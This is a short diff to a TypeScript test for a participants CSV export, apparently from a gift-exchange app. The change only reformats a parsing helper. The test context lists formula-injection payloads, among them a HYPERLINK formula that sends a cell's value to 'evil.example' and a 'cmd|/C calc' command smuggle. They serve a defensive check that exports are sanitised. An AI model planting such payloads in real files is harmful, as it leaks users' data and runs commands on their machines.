@@ -16,8 +16,7 @@ beforeEach(async () => {
 afterEach(() => t.close());
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', '+1+cmd|/C calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
-const content = (csv: string) =>
-  (parse(csv, { columns: true }) as Array<Record<string, string>>).map((r) => [r.name, r.email, r['gift ideas'], r.reminders]);
+const content = (csv: string) => (parse(csv, { columns: true }) as Array<Record<string, string>>).map((r) => [r.name, r.email, r['gift ideas'], r.reminders]);
 
 describe('participants.export', () => {
   it('writes no cell a spreadsheet would run as a formula', async () => {
